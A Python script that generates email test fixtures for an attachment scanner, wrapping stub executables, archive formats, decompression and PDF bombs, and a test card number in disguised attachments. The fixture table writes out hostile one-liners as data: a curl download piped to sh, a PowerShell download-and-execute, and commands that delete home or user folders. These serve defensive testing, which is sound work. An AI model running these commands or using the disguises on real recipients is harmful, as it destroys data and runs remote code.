#!/usr/bin/env python3
"""gen_attach_fixtures.py OUTDIR [NAME...] - build the attachment test messages

Writes OUTDIR/<name>.eml, one message per fixture, each with one
attachment as MIME part 2, plus OUTDIR/sizes.txt ("name bytes" lines)
for the limit tests, and OUTDIR/mixed.eml: a card number in the text, in
a file uuencoded into it, in a zip, a docx, a pdf and a forwarded message
(tests/test_faults.c). With NAMEs, only those messages are written.
Python standard library only; deterministic.
"""
import io
import os
import struct
import sys
import zipfile
from email.mime.application import MIMEApplication
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText

PAN = "4111 1111 1111 1111"  # Visa test number: valid prefix, length, Luhn
FIXED = (2024, 1, 1, 0, 0, 0)


def pe_bytes():
    b = bytearray(1024)
    b[0:2] = b"MZ"
    struct.pack_into("<I", b, 0x3C, 0x80)
    b[0x40:0x40 + 39] = b"This program cannot be run in DOS mode."
    b[0x80:0x84] = b"PE\0\0"
    # COFF: i386, 1 section, optional header 0xE0, executable 32-bit
    struct.pack_into("<HHIIIHH", b, 0x84, 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    struct.pack_into("<H", b, 0x98, 0x10B)  # PE32 optional header
    struct.pack_into("<H", b, 0x98 + 68, 3)  # console subsystem
    return bytes(b)


def elf_bytes():
    b = bytearray(128)
    b[0:4] = b"\x7fELF"
    b[4], b[5], b[6] = 2, 1, 1
    struct.pack_into("<HHIQQQIHHHHHH", b, 16, 2, 0x3E, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    return bytes(b)


def zipped(members, compress=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, FIXED)
            info.compress_type = compress
            z.writestr(info, data)
    return out.getvalue()


def xml(body):
    return '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + body


def docx(paragraphs, extra=(), custom=None):
    ct = xml('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             '<Default Extension="xml" ContentType="application/xml"/>'
             '<Override PartName="/word/document.xml" ContentType="application/'
             'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    body = "".join('<w:p><w:r><w:t>%s</w:t></w:r></w:p>' % p for p in paragraphs)
    doc = xml('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
              '<w:body>%s</w:body></w:document>' % body)
    core = xml('<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
               'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
               '<dc:title>Quarterly notes</dc:title></cp:coreProperties>')
    members = [("[Content_Types].xml", ct), ("word/document.xml", doc), ("docProps/core.xml", core)]
    if custom:
        props = "".join('<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="%d" '
                        'name="%s"><vt:lpwstr>%s</vt:lpwstr></property>' % (i + 2, k, v)
                        for i, (k, v) in enumerate(custom))
        members.append(("docProps/custom.xml", xml(
            '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
            'custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/'
            '2006/docPropsVTypes">%s</Properties>' % props)))
    return zipped(members + list(extra))


def filler(n, seed):
    """About n bytes of words that deflate like prose (not to nothing)."""
    import random
    r = random.Random(seed)
    words = ["order", "shipping", "invoice", "meeting", "agenda", "status", "review",
             "budget", "travel", "report", "weekly", "update", "numbers", "draft"]
    out, size = [], 0
    while size < n:
        w = r.choice(words) + ("%d" % r.randrange(100) if r.random() < 0.3 else "")
        out.append(w)
        size += len(w) + 1
    return " ".join(out)


def damage_deflate(data, member):
    """Overwrite bytes half way into the deflate data of member."""
    b = bytearray(data)
    i = b.find(b"PK\x03\x04")
    while i >= 0:
        csize, = struct.unpack_from("<I", b, i + 18)
        nlen, xlen = struct.unpack_from("<HH", b, i + 26)
        start = i + 30 + nlen + xlen
        if b[i + 30:i + 30 + nlen] == member.encode():
            mid = start + csize // 2
            b[mid:mid + 64] = bytes((x * 37 + 11) & 0xFF for x in range(64))
            return bytes(b)
        i = b.find(b"PK\x03\x04", start + csize)
    raise ValueError(member)


def xlsx(strings):
    ct = xml('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             '<Default Extension="xml" ContentType="application/xml"/></Types>')
    sst = xml('<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">%s</sst>'
              % "".join("<si><t>%s</t></si>" % s for s in strings))
    sheet = xml('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                '<sheetData>%s</sheetData></worksheet>'
                % "".join('<row r="%d"><c r="A%d" t="s"><v>%d</v></c></row>' % (i + 1, i + 1, i)
                          for i in range(len(strings))))
    return zipped([("[Content_Types].xml", ct), ("xl/sharedStrings.xml", sst),
                   ("xl/worksheets/sheet1.xml", sheet)])


def odt(paragraphs):
    content = xml('<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:'
                  'office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
                  '<office:body><office:text>%s</office:text></office:body>'
                  '</office:document-content>'
                  % "".join("<text:p>%s</text:p>" % p for p in paragraphs))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr(zipfile.ZipInfo("mimetype", FIXED), "application/vnd.oasis.opendocument.text")
        info = zipfile.ZipInfo("content.xml", FIXED)
        info.compress_type = zipfile.ZIP_DEFLATED
        z.writestr(info, content)
    return out.getvalue()


def pdf(pages, encrypt=False):
    """A minimal valid PDF, one content stream per page, Helvetica."""
    objs = ["<< /Type /Catalog /Pages 2 0 R >>", None]
    kids = []
    for lines in pages:
        text = "BT /F1 11 Tf 14 TL 72 760 Td " + " ".join(
            "(%s) Tj T*" % l.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
            for l in lines) + " ET"
        objs.append(None)
        page_no = len(objs)
        objs.append("<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text))
        objs[page_no - 1] = ("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources "
                             "<< /Font << /F1 %d 0 R >> >> /Contents %d 0 R >>"
                             % (2 * len(pages) + 3, page_no + 1))
        kids.append("%d 0 R" % page_no)
    objs[1] = "<< /Type /Pages /Kids [%s] /Count %d >>" % (" ".join(kids), len(pages))
    objs.append("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    trailer_extra = ""
    if encrypt:  # standard security handler, a user password that is not empty
        objs.append("<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -44 >>"
                    % ("11" * 32, "22" * 32))
        trailer_extra = " /Encrypt %d 0 R /ID [<%s> <%s>]" % (len(objs), "33" * 16, "33" * 16)
    return pdf_objects(objs, trailer_extra)


def pdf_objects(objs, trailer_extra=""):
    """A PDF of these objects (object 1 the catalog), with its xref;
    trailer_extra goes into the trailer dictionary."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for i, o in enumerate(objs):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (i + 1, o.encode("latin-1"))
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objs) + 1, trailer_extra.encode(), xref)
    return bytes(out)


def pdf_xobject_bomb(depth, fan):
    """One page drawing a form XObject fan times, each form drawing the
    next fan times, depth deep, the last a line of text: fan**depth lines
    on a page of a few KB."""
    stream = "<< %s/Length %d >>\nstream\n%s\nendstream"
    form = "/Type /XObject /Subtype /Form /BBox [0 0 612 792] "
    font = "/Font << /F1 3 0 R >>"
    objs = ["<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources "
            "<< /XObject << /X 6 0 R >> >> /Contents 5 0 R >>"]
    draw = "q /X Do Q\n" * fan
    objs.append(stream % ("", len(draw), draw))
    for level in range(depth):
        n = len(objs) + 1
        if level == depth - 1:
            text = "BT /F1 11 Tf 72 700 Td (Quarterly figures, page one) Tj ET"
            objs.append(stream % (form + "/Resources << %s >> " % font, len(text), text))
        else:
            objs.append(stream % (form + "/Resources << /XObject << /X %d 0 R >> >> " % (n + 1),
                                  len(draw), draw))
    return pdf_objects(objs)


def pdf_drawn(content, box="0 0 612 792", page_extra="", forms=()):
    """One page of this content (Helvetica as /F1), drawing form XObjects
    /X0, /X1... of these (content, /Matrix) pairs."""
    stream = "<< %s/Length %d >>\nstream\n%s\nendstream"
    objs = ["<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [%s] %s/Resources << /Font << /F1 3 0 R >> "
            "/XObject << %s >> >> /Contents 5 0 R >>" % (box, page_extra, " ".join(
                "/X%d %d 0 R" % (i, 6 + i) for i in range(len(forms)))),
            stream % ("", len(content), content)]
    for text, matrix in forms:
        objs.append(stream % ("/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Matrix [%s] "
                              "/Resources << /Font << /F1 3 0 R >> >> " % matrix, len(text), text))
    return pdf_objects(objs)


def encrypt_zip_flags(data):
    """Mark every entry encrypted (traditional PKWARE, general flag bit 0)."""
    b = bytearray(data)
    i = 0
    while True:
        i = b.find(b"PK\x03\x04", i)
        if i < 0:
            break
        b[i + 6] |= 1
        i += 4
    i = 0
    while True:
        i = b.find(b"PK\x01\x02", i)
        if i < 0:
            break
        b[i + 8] |= 1
        i += 4
    return bytes(b)


def png_bytes():
    import zlib
    raw = b"\x00\xff\x00\x00" * 1
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def jpeg_bytes():
    return (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00H\x00H\x00\x00"
            b"\xff\xdb\x00\x43\x00" + bytes(range(1, 65)) + b"\xff\xd9")


def ole_bytes(names):
    b = bytearray(b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + b"\0" * 504)
    for n in names:
        entry = n.encode("utf-16-le").ljust(64, b"\0")
        b += entry + b"\0" * 64
    return bytes(b)


# ---- containers a mail client or Windows opens (issue 16) ----------------
# Each builder follows the format's public documentation and writes the
# smallest file a reader accepts; none compresses (stored methods, or
# literal-only encodings), which readers must accept all the same.


def tnef(files, body=""):
    """MS-OXTNEF: signature, key, then attributes (level, id, length, data,
    16-bit sum of the data bytes)."""
    def attr(level, aid, data):
        return (struct.pack("<BII", level, aid, len(data)) + data
                + struct.pack("<H", sum(data) & 0xFFFF))
    out = struct.pack("<IH", 0x223E9F78, 0x0100)
    out += attr(1, 0x00089006, struct.pack("<I", 0x00010000))  # attTnefVersion
    out += attr(1, 0x00069007, struct.pack("<II", 1252, 0))  # attOemCodepage
    out += attr(1, 0x00018004, b"Quarterly figures\0")  # attSubject
    if body:
        out += attr(1, 0x0002800C, body.encode("latin-1"))  # attBody
    for name, data in files:
        out += attr(2, 0x00069002, b"\xff\xff\xff\xff" + b"\0" * 10)  # attAttachRendData
        out += attr(2, 0x00018010, name.encode("latin-1") + b"\0")  # attAttachTitle
        out += attr(2, 0x0006800F, data)  # attAttachData
    return out


def cfb(entries):
    """MS-CFB version 3 (512-byte sectors) holding entries: (path, data)
    with path a tuple of names; storages are made for inner names. Streams
    under 4096 bytes live in the mini stream, as the format requires."""
    SEC, MINI, END, FREE, FATSEC = 512, 64, 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    nodes = {(): {"name": "Root Entry", "type": 5, "kids": [], "data": b""}}
    for path, data in entries:
        for i in range(1, len(path)):
            if path[:i] not in nodes:
                nodes[path[:i]] = {"name": path[i - 1], "type": 1, "kids": [], "data": b""}
                nodes[path[:i - 1]]["kids"].append(path[:i])
        nodes[path] = {"name": path[-1], "type": 2, "kids": [], "data": data}
        nodes[path[:-1]]["kids"].append(path)
    order = [()] + sorted(p for p in nodes if p)
    index = {p: i for i, p in enumerate(order)}
    mini, fat_chains, big = bytearray(), [], bytearray()
    minifat = []
    for p in order[1:]:
        n = nodes[p]
        if n["type"] != 2:
            continue
        d = n["data"]
        if len(d) < 4096:
            start = len(mini) // MINI
            k = max(1, (len(d) + MINI - 1) // MINI)
            minifat += [start + j + 1 for j in range(k - 1)] + [END]
            mini += d.ljust(k * MINI, b"\0")
            n["start"] = start if d else END
        else:
            n["big"] = True
            fat_chains.append((p, d))
    sectors = []  # (kind, bytes)

    def add_chain(data):
        first = len(sectors)
        k = max(1, (len(data) + SEC - 1) // SEC)
        for j in range(k):
            sectors.append(data[j * SEC:(j + 1) * SEC].ljust(SEC, b"\0"))
        return first, k
    chains = []
    for p, d in fat_chains:
        first, k = add_chain(d)
        nodes[p]["start"] = first
        chains.append((first, k))
    root_start = END
    if mini:
        root_start, k = add_chain(bytes(mini))
        chains.append((root_start, k))
    nodes[()]["start"], nodes[()]["data"] = root_start, bytes(mini)
    minifat_start, minifat_n = END, 0
    if minifat:
        raw = b"".join(struct.pack("<I", x) for x in minifat)
        minifat_start, minifat_n = add_chain(raw.ljust(((len(raw) + SEC - 1) // SEC) * SEC,
                                                       b"\xff"))
        chains.append((minifat_start, minifat_n))
    dirs = bytearray()
    for p in order:
        n = nodes[p]
        kids = sorted(n["kids"], key=lambda q: (len(q[-1]), q[-1].upper()))
        name = n["name"].encode("utf-16-le") + b"\0\0"
        sib = lambda q: index[q] if q is not None else FREE
        # siblings as a chain of right links: a valid (if unbalanced) tree
        parent_kids = nodes[p[:-1]]["kids"] if p else []
        pk = sorted(parent_kids, key=lambda q: (len(q[-1]), q[-1].upper()))
        right = pk[pk.index(p) + 1] if p and pk.index(p) + 1 < len(pk) else None
        size = len(n["data"]) if n["type"] != 1 else 0
        dirs += struct.pack("<64sHBBIII16sIQQIQ", name.ljust(64, b"\0"), len(name), n["type"], 1,
                            FREE, sib(right), sib(kids[0] if kids else None), b"\0" * 16, 0, 0,
                            0, n.get("start", END) if n["type"] != 1 else 0, size)
    dir_start, k = add_chain(bytes(dirs).ljust(((len(dirs) + SEC - 1) // SEC) * SEC, b"\0"))
    chains.append((dir_start, k))
    nfat = 1
    while (len(sectors) + nfat) * 4 > nfat * SEC:
        nfat += 1
    fat = [FREE] * (nfat * SEC // 4)
    for first, k in chains:
        for j in range(k):
            fat[first + j] = first + j + 1 if j + 1 < k else END
    fat_first = len(sectors)
    for j in range(nfat):
        fat[fat_first + j] = FATSEC
    fatb = b"".join(struct.pack("<I", x) for x in fat)
    for j in range(nfat):
        sectors.append(fatb[j * SEC:(j + 1) * SEC])
    difat = [fat_first + j for j in range(nfat)] + [FREE] * (109 - nfat)
    hdr = (b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + b"\0" * 16 + struct.pack(
        "<HHHHH6sIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, b"\0" * 6, 0, nfat, dir_start, 0, 4096,
        minifat_start, minifat_n, END, 0) + b"".join(struct.pack("<I", x) for x in difat))
    return hdr + b"".join(sectors)


def outlook_msg(subject, body, files):
    """MS-OXMSG: an Outlook item as a compound file: properties as
    __substg1.0_<tag> streams (001F: UTF-16LE string, 0102: binary), one
    __attach_version1.0_#N storage per attachment."""
    u = lambda s: s.encode("utf-16-le")
    props = b"\0" * 8 + struct.pack("<IIII", 0, len(files), len(files), 0) + b"\0" * 8
    ents = [(("__properties_version1.0",), props),
            (("__substg1.0_001A001F",), u("IPM.Note")),
            (("__substg1.0_0037001F",), u(subject)),
            (("__substg1.0_0C1A001F",), u("Dana Weber")),
            (("__substg1.0_1000001F",), u(body))]
    for i, (name, data) in enumerate(files):
        s = "__attach_version1.0_#%08X" % i
        ents += [((s, "__properties_version1.0"), b"\0" * 8),
                 ((s, "__substg1.0_3707001F"), u(name)),
                 ((s, "__substg1.0_3704001F"), u(name[:8])),
                 ((s, "__substg1.0_37010102"), data)]
    return cfb(ents)


def ole10native(name, data):
    """The OLE Package object's native data: size, then label, path,
    temporary path and the file (as Packager writes it)."""
    nm = name.encode("latin-1") + b"\0"
    path = b"C:\\Users\\dana\\" + nm
    inner = (b"\x02\x00" + nm + path + b"\0\0\x03\x00" + struct.pack("<I", len(path)) + path
             + struct.pack("<I", len(data)) + data)
    return struct.pack("<I", len(inner)) + inner


def rtf_object(name, data):
    """RTF 1.9.1 \\object with \\objdata: an OLE 1.0 embedded object of class
    Package whose native data is an Ole10Native package, hex-encoded."""
    native = ole10native(name, data)[4:]  # OLE 1.0 gives the size itself
    cls = b"Package\0"
    ole1 = (struct.pack("<II", 0x00000501, 2) + struct.pack("<I", len(cls)) + cls
            + struct.pack("<II", 0, 0) + struct.pack("<I", len(native)) + native)
    hexd = ole1.hex()
    lines = "\n".join(hexd[i:i + 128] for i in range(0, len(hexd), 128))
    return ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Calibri;}}\\pard Please open the file below.\\par\n"
            "{\\object\\objemb{\\*\\objclass Package}\\objw1000\\objh500{\\*\\objdata %s\n}}"
            "\\par}\n" % lines).encode("latin-1")


def word_objectpool(name, data):
    """A Word 97 file's embedded package: ObjectPool/_<id>/\\x01Ole10Native
    (MS-DOC 2.1.7 and MS-OLEDS 2.3.6), beside a stub WordDocument stream."""
    return cfb([(("WordDocument",), b"\xec\xa5" + b"\0" * 1022),
                (("ObjectPool", "_1234567890", "\x01Ole10Native"), ole10native(name, data)),
                (("ObjectPool", "_1234567890", "\x01CompObj"), b"\0" * 32)])


def pdf_embedded(name, data):
    """ISO 32000-1 7.11.4: an /EmbeddedFile stream named in the catalog's
    /Names /EmbeddedFiles tree, and the same file as a file attachment
    annotation on the page (12.5.6.15)."""
    text = "BT /F1 11 Tf 72 740 Td (See the attached file.) Tj ET"
    raw = data.decode("latin-1")
    return pdf_objects([
        "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(%s) 6 0 R] >> >> >>"
        % name,
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R "
        ">> >> /Contents 4 0 R >>",
        "<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        "<< /Type /Filespec /F (%s) /UF (%s) /EF << /F 7 0 R >> >>" % (name, name),
        "<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream" % (len(data), raw)])


def cpio(files, fmt):
    """cpio in its three common header formats: newc (070701), odc
    (070707, octal) and old binary (0x71C7, little-endian)."""
    out = b""
    for i, (name, data) in enumerate(list(files) + [("TRAILER!!!", b"")]):
        nm = name.encode() + b"\0"
        mode = 0o100644 if name != "TRAILER!!!" else 0
        if fmt == "newc":
            h = b"070701" + b"".join(b"%08X" % v for v in (
                i + 1, mode, 0, 0, 1, 0, len(data), 0, 0, 0, 0, len(nm), 0))
            out += h + nm
            out += b"\0" * (-len(out) % 4) + data + b"\0" * (-(len(out) + len(data)) % 4)
        elif fmt == "odc":
            out += (b"070707" + b"%06o%06o%06o%06o%06o%06o%06o%011o%06o%011o" % (
                0, i + 1, mode, 0, 0, 1, 0, 0, len(nm), len(data)) + nm + data)
        else:
            out += struct.pack("<13H", 0o70707, 0, i + 1, mode, 0, 0, 1, 0, 0, 0, len(nm),
                               len(data) >> 16, len(data) & 0xFFFF) + nm + b"\0" * (len(nm) % 2)
            out += data + b"\0" * (len(data) % 2)
    return out


def crc16_arc(data):
    crc = 0
    for b in data:
        crc ^= b
        for _ in range(8):
            crc = (crc >> 1) ^ 0xA001 if crc & 1 else crc >> 1
    return crc


def lzh(name, data):
    """LHA level-0 header, method -lh0- (stored)."""
    import zlib  # noqa: F401  (CRC-16/ARC below)
    nm = name.encode()
    body = (b"-lh0-" + struct.pack("<IIIBB", len(data), len(data), 0, 0x20, 0) + bytes([len(nm)])
            + nm + struct.pack("<H", crc16_arc(data)))
    head = bytes([len(body), sum(body) & 0xFF]) + body
    return head + data + b"\0"


def arj(name, data):
    """ARJ: main header and one file header (method 0, stored), each with
    a CRC-32 of the basic header, then the end marker."""
    import zlib

    def header(ftype, fname, size, crc):
        first = struct.pack("<BBBBBBBBIIIIHHH", 30, 11, 1, 2, 0, 0, ftype, 0, 0, size, size, crc,
                            0, 0x20, 0)
        basic = first + fname.encode() + b"\0" + b"\0"
        return (b"\x60\xea" + struct.pack("<H", len(basic)) + basic
                + struct.pack("<I", zlib.crc32(basic)) + b"\0\0")
    return (header(2, "archive.arj", 0, 0) + header(0, name, len(data), zlib.crc32(data)) + data
            + b"\x60\xea\0\0")


def szdd(data):
    """MS compress.exe (SZDD): LZSS with every byte a literal (each flag
    byte 0xFF announces eight literals)."""
    out = b"SZDD\x88\xf0\x27\x33A\0" + struct.pack("<I", len(data))
    for i in range(0, len(data), 8):
        out += b"\xff" + data[i:i + 8]
    return out


def binhex(name, data):
    """BinHex 4.0: header, data fork and empty resource fork with their
    CRC-CCITT, run-length escapes (0x90) doubled, 6-bit encoded, 64 a line."""
    def crc(b):
        c = 0
        for x in b + b"\0\0":
            for i in range(8):
                top = c & 0x8000
                c = ((c << 1) | ((x >> (7 - i)) & 1)) & 0xFFFF
                if top:
                    c ^= 0x1021
        return struct.pack(">H", c)
    nm = name.encode()
    hdr = bytes([len(nm)]) + nm + b"\0" + b"APPL????" + b"\0\0" + struct.pack(">II", len(data), 0)
    raw = hdr + crc(hdr) + data + crc(data) + crc(b"")
    raw = raw.replace(b"\x90", b"\x90\x00")
    alpha = b"!\"#$%&'()*+,-012345689@ABCDEFGHIJKLMNPQRSTUVXYZ[`abcdefhijklmpqr"
    bits, nbits, enc = 0, 0, bytearray()
    for x in raw:
        bits, nbits = (bits << 8) | x, nbits + 8
        while nbits >= 6:
            nbits -= 6
            enc.append(alpha[(bits >> nbits) & 63])
    if nbits:
        enc.append(alpha[(bits << (6 - nbits)) & 63])
    lines = [bytes(enc[i:i + 64]) for i in range(0, len(enc), 64)]
    return (b"(This file must be converted with BinHex 4.0)\r\n:" + b"\r\n".join(lines) + b":\r\n")


def zip_deflate64(members):
    """A zip whose entries say method 9 (Deflate64): their data is deflate
    in stored blocks, which Deflate64 reads the same way."""
    import zlib
    out, central = b"", b""
    for name, data in members:
        c = zlib.compressobj(0, zlib.DEFLATED, -15)
        comp = c.compress(data) + c.flush()
        nm = name.encode()
        crc = zlib.crc32(data)
        local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 21, 0, 9, 0, 0x5821, crc, len(comp),
                            len(data), len(nm), 0) + nm
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 21, 21, 0, 9, 0, 0x5821, crc,
                               len(comp), len(data), len(nm), 0, 0, 0, 0, 0, len(out)) + nm
        out += local + comp
    return out + central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members),
                                       len(central), len(out), 0)


def data_uri_html(name, ctype, data):
    """HTML whose link carries a file in a data: URI (RFC 2397), as HTML
    smuggling pages and some mail clients write it."""
    import base64
    return ('<html><body><p>Your document is ready.</p><a download="%s" href="data:%s;base64,%s">'
            'Open</a></body></html>\n' % (name, ctype, base64.b64encode(data).decode())).encode()


def mbox(*messages):
    """An mbox (RFC 4155): each message after a "From " line."""
    return b"".join(b"From alice@example.com Mon Jan  1 00:00:00 2024\n" + m.replace(
        b"\nFrom ", b"\n>From ") + b"\n" for m in messages)


# Containers of issue 16: (fixture stem, declared type, file name, builder of
# a container holding one file). Each gets four fixtures: an executable
# inside and a card number in a text file inside, each under the
# container's own name and disguised as notes.txt.
CONTAINERS = [
    ("tnef", "application/ms-tnef", "winmail.dat", lambda n, d: tnef([(n, d)])),
    ("msg", "application/vnd.ms-outlook", "order.msg",
     lambda n, d: outlook_msg("Order", "See the attached file.", [(n, d)])),
    ("rtf", "application/rtf", "letter.rtf", rtf_object),
    # a line break after \objdata instead of the space Word writes
    ("rtf_linebreak", "application/rtf", "letter.rtf",
     lambda n, d: rtf_object(n, d).replace(b"\\objdata ", b"\\objdata\r\n")),
    ("doc_package", "application/msword", "letter.doc", word_objectpool),
    ("pdf_embedded", "application/pdf", "statement.pdf", pdf_embedded),
    ("cpio_newc", "application/x-cpio", "files.cpio", lambda n, d: cpio([(n, d)], "newc")),
    ("cpio_odc", "application/x-cpio", "files.cpio", lambda n, d: cpio([(n, d)], "odc")),
    ("cpio_bin", "application/x-cpio", "files.cpio", lambda n, d: cpio([(n, d)], "bin")),
    ("lzh", "application/x-lzh-compressed", "files.lzh", lzh),
    ("arj", "application/x-arj", "files.arj", arj),
    ("szdd", "application/octet-stream", "setup.ex_", lambda n, d: szdd(d)),
    ("binhex", "application/mac-binhex40", "files.hqx", binhex),
    ("zip_deflate64", "application/zip", "files.zip", lambda n, d: zip_deflate64([(n, d)])),
    ("html_datauri", "text/html", "invoice.html",
     lambda n, d: data_uri_html(n, "application/octet-stream", d)),
    ("mbox", "application/octet-stream", "saved.mbox",
     lambda n, d: mbox(inner_message(("text/plain", b"Hello\n", "")),
                       inner_message(("text/plain", b"The file.\n", ""),
                                     ("application/octet-stream", d, n)))),
]
# formats that are text: disguised as a text/plain notes.txt
TEXT_CONTAINERS = {"rtf", "rtf_linebreak", "binhex", "html_datauri", "mbox"}


def message(name, ctype, data, fname):
    m = MIMEMultipart()
    m["From"] = "alice@example.com"
    m["To"] = "bob@example.org"
    m["Subject"] = "The file"
    m.attach(MIMEText("Here is the file we talked about.\n"))
    maintype, sub = ctype.split("/")
    if maintype == "text":
        try:
            part = MIMEText(data.decode("utf-8"), sub)
        except UnicodeDecodeError:
            part = MIMEText(data.decode("latin-1"), sub, "latin-1")
    else:
        part = MIMEApplication(data, sub)
        part.replace_header("Content-Type", ctype)
    part.add_header("Content-Disposition", "attachment", filename=fname)
    m.attach(part)
    return m.as_bytes()


def mixed_message(csv_pan):
    """Every attachment path at once, each holding the card number."""
    import binascii
    m = MIMEMultipart()
    m["From"] = "alice@example.com"
    m["To"] = "bob@example.org"
    m["Subject"] = "Order details"
    notes = b"Card on file: " + PAN.encode() + b"\n"
    uu = b"begin 644 notes.txt\n" + binascii.b2a_uu(notes) + b"`\nend\n"
    m.attach(MIMEText("Card for the order: %s exp 04/29\n\n" % PAN + uu.decode()))
    card_msg = inner_message(("text/plain", ("Card: %s exp 04/29\n" % PAN).encode(), ""))
    for ctype, data, fname in [
            ("application/zip", zipped([("cards.csv", csv_pan)]), "cards.zip"),
            ("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
             docx(["Customer card on file:", "Card " + PAN]), "cards.docx"),
            ("application/pdf", pdf([["Billing details", "Card: " + PAN]]), "cards.pdf"),
            ("message/rfc822", card_msg, "fwd.eml")]:
        part = MIMEApplication(data, ctype.split("/")[1])
        part.replace_header("Content-Type", ctype)
        part.add_header("Content-Disposition", "attachment", filename=fname)
        m.attach(part)
    return m.as_bytes()


def inner_message(*parts):
    """A whole message (bytes) to attach: one text part, or a multipart of
    (ctype, bytes, filename) parts."""
    if len(parts) == 1:
        ctype, data, _ = parts[0]
        m = MIMEText(data.decode("utf-8"), ctype.split("/")[1])
    else:
        m = MIMEMultipart("mixed")
        for ctype, data, fname in parts:
            maintype, sub = ctype.split("/")
            if maintype == "text":
                p = MIMEText(data.decode("utf-8"), sub)
            else:
                p = MIMEApplication(data, sub)
                p.add_header("Content-Disposition", "attachment", filename=fname)
            m.attach(p)
    m["From"] = "carol@example.net"
    m["To"] = "alice@example.com"
    m["Subject"] = "Order details"
    return m.as_bytes()


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    pe, elf = pe_bytes(), elf_bytes()
    csv_pan = ("name,card\nDana Weber,%s\n" % PAN).encode()
    bomb = zipped([("zeros.bin", b"\0" * (20 * 1024 * 1024))])
    inner = zipped([("inner.csv", csv_pan)])
    mid = zipped([("inner.zip", inner)])
    five = zipped([("m%d.txt" % i, b"hello\n") for i in range(5)])
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w", zipfile.ZIP_STORED) as z:
        for i in range(100000):
            z.writestr(zipfile.ZipInfo("f%d" % i, FIXED), b"")
    fixtures = {
        "pe_renamed": ("application/pdf", pe, "invoice.pdf"),
        "pe_exe": ("application/octet-stream", pe, "setup.exe"),
        "elf": ("application/octet-stream", elf, "update.bin"),
        "script_vbs": ("text/vbscript", b'Set sh = CreateObject("WScript.Shell")\r\n', "fix.vbs"),
        "script_sh": ("application/x-sh", b"#!/bin/sh\ncurl -s https://x.example/a | sh\n",
                      "fix.sh"),
        "script_sh_txt": ("text/plain", b"#!/bin/sh\nrm -rf \"$HOME\"/Documents\n", "notes.txt"),
        "script_bat_txt": ("text/plain", b"@echo off\r\ndel /q C:\\Users\\*\r\n", "readme.txt"),
        "text_txt": ("text/plain", b"Minutes of the Tuesday meeting.\nNext steps: none.\n",
                     "minutes.txt"),
        "script_ps1": ("application/octet-stream",
                       b"$c = New-Object Net.WebClient\r\nIEX $c.DownloadString('http://x')\r\n",
                       "clean.ps1"),
        "macro_docx": ("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
